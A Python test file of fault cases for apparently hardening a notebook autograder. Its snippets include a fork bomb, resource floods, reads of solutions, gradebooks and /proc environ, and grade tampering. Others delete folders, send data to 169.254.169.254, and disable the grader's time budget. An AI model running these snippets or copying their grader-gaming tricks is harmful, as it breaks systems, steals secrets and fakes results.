"""What is done to the machine: ends, loops, floods, files, the network, other people's work."""

from __future__ import annotations

from collections.abc import Callable

from nbformat import NotebookNode

from faults.fault import Fault, at_most, cell_of, honest, nothing, right_and, spoils, types

READS = """
import glob, os, subprocess, sys

LESSON = "02_one_step_back"

def show(path):
    try:
        with open(path, "rb") as file:
            print(path, file.read(400_000).decode("latin-1"))
    except Exception as failure:
        print(path, type(failure).__name__)

roots = ["COURSE", "/", *("/".join([".."] * n) for n in range(1, 7))]
"""
SOLUTION = (
    READS
    + """
for root in roots:
    for path in glob.glob(f"{root}/solutions/*/*") + [f"{root}/solutions/{LESSON}/{LESSON}.py"]:
        show(path)
"""
)
GRADEBOOK = (
    READS
    + """
for root in roots:
    show(f"{root}/gradebook.db")
    show(f"{root}/nbgrader_config.py")
try:
    import sqlite3
    for root in roots:
        try:
            base = sqlite3.connect(f"file:{root}/gradebook.db?mode=ro", uri=True)
            print([row for row in base.execute("select * from student")])
        except Exception as failure:
            print(type(failure).__name__)
except ImportError:
    print("no sqlite3")
"""
)
SEED = (
    READS
    + """
for root in roots:
    show(f"{root}/.course_seed")
for place in ("/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/proc/self/mountinfo"):
    show(place)
for path in glob.glob("/proc/[0-9]*/environ"):
    show(path)
print(dict(os.environ))
print(sys.argv, sys.orig_argv, sys.path)
try:
    from microkit.course.seed import course_seed
    print(course_seed("COURSE/.course_seed"))
except Exception as failure:
    print(type(failure).__name__)
"""
)
CLASSMATE = (
    READS
    + """
for root in roots:
    for folder in ("submitted", "autograded", "feedback"):
        for path in glob.glob(f"{root}/{folder}/*/*/*"):
            show(path)
for path in glob.glob("/proc/*/root/*") + glob.glob("/proc/*/cwd/*") + glob.glob("/proc/*/fd/*"):
    show(path)
"""
)
SEARCH = """
import gc, os, sys

NEEDLE = "".join(["can", "ary-of", "-"])
for folder, folders, files in os.walk("/"):
    if folder == "/":
        folders[:] = [name for name in folders if name not in ("proc", "sys", "dev", "lib", "usr")]
    for name in files:
        path = os.path.join(folder, name)
        try:
            with open(path, "rb") as file:
                text = file.read(2_000_000).decode("latin-1")
        except OSError:
            continue
        if NEEDLE in text and "02_" in path:
            print(path, text)
for thing in gc.get_objects():
    if isinstance(thing, dict):
        for key, value in list(thing.items()):
            if isinstance(value, str) and NEEDLE in value:
                print(key, value[:1000])
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            if "rw-p" in line:
                low, high = (int(n, 16) for n in line.split()[0].split("-"))
                memory.seek(low)
                found = memory.read(min(high - low, 20_000_000))
                place = found.find(NEEDLE.encode() + b"the")
                if place >= 0:
                    print(found[place : place + 80])
except (OSError, ValueError, OverflowError) as failure:
    print(type(failure).__name__)
"""
WRITES = """
import os, pathlib, shutil, sqlite3

MARK = "was_here_7f31"

def attempt(function, *arguments):
    try:
        function(*arguments)
    except BaseException as failure:
        print(type(failure).__name__)

def scribble(folder):
    pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
    pathlib.Path(folder, MARK).write_text("x")

for folder in ("COURSE", "COURSE/submitted/aa_honest", "COURSE/solutions", "COURSE/autograded",
               "COURSE/autograded/aa_honest/02_one_step_back", "COURSE/feedback", "..", "../..",
               "../../..", os.path.expanduser("~"), "/tmp", "/var/tmp", "/root", "/home",
               "/dev/shm", os.getcwd(), "/room", "/usr/lib", "/etc"):
    attempt(scribble, folder)
for path in ("COURSE/submitted/aa_honest/02_one_step_back/02_one_step_back.ipynb",
             "COURSE/solutions/02_one_step_back/02_one_step_back.py", "COURSE/.course_seed"):
    attempt(pathlib.Path(path).write_text, "spoiled")
for folder in ("COURSE/solutions", "COURSE/submitted", "COURSE/lessons", "COURSE/feedback"):
    attempt(shutil.rmtree, folder)
"""
MARKS = """
import glob, os
try:
    import sqlite3
except ImportError:
    sqlite3 = None
for root in ("COURSE", *("/".join([".."] * n) for n in range(1, 7))):
    try:
        base = sqlite3.connect(f"{root}/gradebook.db")
        base.execute("update grade set manual_score = 54, auto_score = 54, extra_credit = 54")
        base.execute("delete from submitted_assignment where id not in (select 0)")
        base.commit()
    except Exception as failure:
        print(type(failure).__name__)
try:
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///COURSE/gradebook.db") as book:
        book.remove_assignment("02_one_step_back")
except Exception as failure:
    print(type(failure).__name__)
"""
IGNORES = """
import signal, time

for number in range(1, signal.NSIG):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
BOMB = """
import os, signal

signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
LEFT = """
import os, signal, time

for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, signal.NSIG):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            while True:
                time.sleep(60)
        os._exit(0)
"""
NETWORK = """
import socket

for family, address in (
    (socket.AF_INET, ("127.0.0.1", PORT)),
    (socket.AF_INET, ("localhost", PORT)),
    (socket.AF_INET, ("169.254.169.254", 80)),
    (socket.AF_UNIX, "\\0microkit-faults-PORT"),
):
    try:
        with socket.socket(family) as line:
            line.settimeout(0.2)
            line.connect(address)
            line.sendall(b"stolen")
            print("connected to", address)
    except Exception as failure:
        print(type(failure).__name__)
try:
    print(socket.getaddrinfo("example.com", 80))
except Exception as failure:
    print(type(failure).__name__)
"""
POWERS = """
import ctypes, os

libc = ctypes.CDLL(None)
print([
    libc.mount(b"none", b"/", None, ctypes.c_ulong(0x20), None),
    libc.umount2(b"/proc", 2), libc.sethostname(b"x", 1), libc.chroot(b"/tmp"),
    libc.unshare(0x10000000), libc.ptrace(16, 1, None, None), libc.reboot(0),
])
for number in (os.getppid(), 1, -1):
    for signal in (15, 2, 9):
        try:
            os.kill(number, signal)
        except OSError as failure:
            print(failure.errno)
"""
NOTE = """
import os
try:
    from multiprocessing import shared_memory
except ImportError:
    shared_memory = None
TEXT = "left-" + "for-the-next-one"
for folder in ("/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"), "/var/tmp", "/run"):
    try:
        with open(os.path.join(folder, "note.txt"), "w") as file:
            file.write(TEXT)
    except OSError:
        pass
"""
FINDS = """
import os
for folder in ("/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"), "/var/tmp", "/run"):
    try:
        print(open(os.path.join(folder, "note.txt")).read())
    except OSError:
        pass
"""
BAD_REPR = """
class Endless:
    def __repr__(self):
        while True:
            pass
Endless()
"""
BAD_ERROR = """
class Unspeakable(BaseException):
    def __str__(self): raise SystemExit(3)
    __repr__ = __str__
raise Unspeakable()
"""
ODD_OUTPUT = """
import os, sys
os.write(1, bytes(range(256)) * 4)
os.write(2, b"\\xff\\xfe\\x00")
sys.stdout.write("\\x1b[2J\\x1b]0;owned\\x07\\r\\r\\b\\b\\u202e\\x00")
try:
    print("\\ud800")
except UnicodeError:
    print("no halves")
"""
RULE_LOOP = """
@method_of(Value)
def __mul__(self, other):
    other = other if isinstance(other, Value) else Value(other)
    out = Value(self.data * other.data, (self, other), "*")

    def _backward():
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass

    out._backward = _backward
    return out
"""
RULE_EXIT = (
    RULE_LOOP[: RULE_LOOP.index("        while True")]
    + """
        import os
        os._exit(0)

    out._backward = _backward
    return out
"""
)
PATIENT_RULE_LOOP = """
import sys
sys.settrace = lambda *_: None
sys.setprofile = lambda *_: None
try:
    import signal, microkit.guard as guard
    guard.attempt.__defaults__ = guard.attempt.__kwdefaults__ = None
    guard._Budget.trace = guard._Budget._again = lambda *_: None
    signal.setitimer = signal.alarm = lambda *_: None
except Exception:
    pass
"""

LONG_NAME = """
from microkit.course.grade.desk import desk
desk.collect = lambda *_: "NotHereError " + "a" * 3_000_000
"""


def loops_below(answer: str) -> Callable[[NotebookNode], None]:
    """Return who writes a loop that never ends below an answer."""

    def spoil(notebook: NotebookNode) -> None:
        cell_of(notebook, answer).source += "\nwhile True:\n    pass"

    return spoil


FAULTS = (
    # ends and loops
    Fault(
        "exits_first",
        "ends the process in the first cell",
        types("import os\nos._exit(0)", "first"),
        right_and(True),
        stock="ungraded",
    ),
    Fault(
        "exits_last",
        "ends the process in the last cell",
        types("import os\nos._exit(1)", "late"),
        right_and(True),
        stock="ungraded",
    ),
    Fault(
        "exits_in_rule",
        "ends the process in a rule",
        types("", mul_backward=RULE_EXIT),
        at_most(16.5, None),
    ),
    Fault("exits_politely", "calls exit() and quit()", types("exit()", "early"), right_and()),
    Fault("system_exit", "raises SystemExit", types("raise SystemExit(3)", "early"), honest(None)),
    Fault(
        "segfault",
        "reads where nothing is",
        types("import ctypes\nctypes.string_at(0)", "early"),
        right_and(True),
    ),
    Fault(
        "kills_itself",
        "sends itself SIGKILL",
        types("import os\nos.kill(os.getpid(), 9)", "late"),
        right_and(True),
    ),
    Fault(
        "stops_itself",
        "stops itself",
        types("import os\nos.kill(os.getpid(), 19)", "late"),
        right_and(says=r"second|time|end"),
    ),
    Fault(
        "loops",
        "has a cell that never ends",
        types("while True:\n    pass", "early"),
        right_and(says=r"second|time|end"),
    ),
    Fault(
        "loops_below_an_answer",
        "has a loop that never ends below a right answer, in the cell of a later run",
        spoils(loops_below("div-backward")),
        honest(False, says="did not end"),
    ),
    Fault(
        "loops_on",
        "has a loop that ignores the interrupt",
        types(IGNORES, "late"),
        right_and(says=r"second|time|end"),
        stock="ungraded",
    ),
    Fault(
        "sleeps",
        "sleeps for a day",
        types("import time\ntime.sleep(86400)", "late"),
        right_and(says=r"second|time|end"),
    ),
    Fault(
        "loops_in_rule",
        "has a rule that never ends, whatever is raised",
        types("", mul_backward=RULE_LOOP),
        at_most(16.5),
    ),
    Fault(
        "loops_unseen",
        "has a rule that never ends, and switches off what counts",
        types(PATIENT_RULE_LOOP, "late", mul_backward=RULE_LOOP),
        right_and(),
    ),
    Fault(
        "loops_when_shown",
        "has a result that never ends to be shown",
        types(BAD_REPR, "late"),
        right_and(),
    ),
    Fault("unspeakable", "raises what cannot be shown", types(BAD_ERROR, "late"), right_and()),
    Fault("asks", "waits for an input", types('name = input("Who? ")', "early"), honest(None)),
    # floods
    Fault(
        "many_magics",
        "has so many magics that IPython would read them for minutes",
        types("x = %foo a\n" * 3_000, "early"),
        honest(),
    ),
    Fault(
        "long_names",
        "answers with a name that is megabytes long, and is said not to be there",
        types(LONG_NAME, "late"),
        nothing(True, says="is not there"),
    ),
    Fault("fork_bomb", "forks without an end", types(BOMB, "late"), right_and(True)),
    Fault(
        "many_threads",
        "starts threads without an end",
        types(
            "import threading, time\nwhile True:\n"
            "    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
            "late",
        ),
        right_and(),
    ),
    Fault(
        "processes_left",
        "leaves processes behind that ignore signals",
        types(LEFT, "late"),
        right_and(),
        stock="sixty processes left behind",
    ),
    Fault("memory", "takes memory at once", types("big = bytearray(2**42)", "early"), honest(None)),
    Fault(
        "memory_bit_by_bit",
        "takes memory without an end",
        types("held = []\nwhile True:\n    held.append(bytearray(2**22))", "late"),
        right_and(),
    ),
    Fault(
        "floods",
        "prints without an end",
        types("while True:\n    print('x' * 1000)", "late"),
        right_and(True),
        stock="a notebook of 200 MB",
    ),
    Fault(
        "floods_a_line",
        "prints one line of 60 MB",
        types("print('x' * 60_000_000)", "late"),
        right_and(),
    ),
    Fault(
        "floods_displays",
        "shows big pages without an end",
        types(
            "from IPython.display import HTML, display\n"
            "while True:\n    display(HTML('x' * 100_000))",
            "late",
        ),
        right_and(),
    ),
    Fault(
        "huge_file",
        "writes a huge file",
        types(
            "with open('huge', 'wb') as file:\n    while True:\n        file.write(bytes(2**20))",
            "late",
        ),
        right_and(),
    ),
    Fault(
        "recursion",
        "calls itself without an end",
        types("def again(): return again()\nagain()", "early"),
        honest(None),
    ),
    Fault(
        "deep_recursion",
        "calls itself until the process breaks",
        types(
            "import sys\nsys.setrecursionlimit(2**30)\nclass Deep: pass\n"
            "Deep.__repr__ = lambda self: repr([self])\nrepr(Deep())",
            "late",
        ),
        right_and(),
    ),
    Fault("odd_output", "prints bytes that are no text", types(ODD_OUTPUT, "early"), honest(None)),
    Fault(
        "closes_files",
        "closes every open file",
        types("import os\nos.closerange(0, 1000)", "late"),
        right_and(),
    ),
    Fault(
        "closes_stdout",
        "closes the output",
        types("import sys\nsys.stdout.close()\nsys.stdout = sys.stderr = None", "late"),
        right_and(),
    ),
    # other people's things
    Fault(
        "reads_the_solution",
        "reads the solution",
        types(SOLUTION, "early", False),
        nothing(),
        stock="full marks",
    ),
    Fault(
        "reads_the_gradebook",
        "reads the gradebook",
        types(GRADEBOOK, "early"),
        honest(None, secrets=("SQLite format", "CREATE TABLE")),
    ),
    Fault(
        "reads_the_seed",
        "reads the seed, the environment and the command lines",
        types(SEED, "early"),
        honest(None),
    ),
    Fault(
        "reads_a_classmate",
        "reads what others have handed in",
        types(CLASSMATE, "early"),
        right_and(),
    ),
    Fault(
        "searches",
        "searches files and memory for what is secret",
        types(SEARCH, "late"),
        right_and(),
    ),
    Fault(
        "writes_marks",
        "writes marks into the gradebook",
        types(MARKS, "early", False),
        nothing(),
        stock="54 points of 8",
    ),
    Fault(
        "writes_everywhere",
        "writes over solutions and a classmate's work",
        types(WRITES, "early"),
        honest(None),
        stock="solutions and a classmate's work changed",
    ),
    Fault("network", "calls out", types(NETWORK, "early"), honest(None), stock="reached"),
    Fault("powers", "tries what only an administrator may do", types(POWERS, "late"), right_and()),
    Fault("leaves_a_note", "leaves a note for the next one", types(NOTE, "early"), honest(None)),
    Fault(
        "note_is_found",
        "looks for a note that was left",
        types(FINDS, "early"),
        honest(None, secrets=("left-for-the-next-one",)),
    ),
)
